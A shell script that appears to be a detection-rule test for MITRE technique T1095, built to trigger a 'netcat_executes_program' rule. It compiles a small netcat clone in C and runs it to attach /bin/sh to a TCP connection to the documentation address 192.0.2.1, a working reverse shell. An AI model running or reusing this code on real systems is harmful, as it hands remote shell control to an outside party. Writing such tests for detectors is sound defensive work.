#!/bin/sh
# technique: T1095 Non-Application Layer Protocol
# rule: netcat_executes_program
# A small netcat of its own that connects a shell to a bare connection; nobody answers.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
cat > /opt/nc.c <<'END'
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
int main(int count, char **words) { /* nc -e PROGRAM HOST PORT */
  struct sockaddr_in peer = {.sin_family = AF_INET};
  int link = socket(AF_INET, SOCK_STREAM, 0);
  if (count < 5) return 64;
  inet_pton(AF_INET, words[3], &peer.sin_addr);
  peer.sin_port = htons(atoi(words[4]));
  if (connect(link, (struct sockaddr *)&peer, sizeof peer)) return 1;
  for (int i = 0; i < 3; i++) dup2(link, i);
  execl(words[2], words[2], (char *)0);
  return 1;
}
END
gcc -o /opt/nc /opt/nc.c
/opt/nc -e /bin/sh 192.0.2.1 4446 || true
exit 0
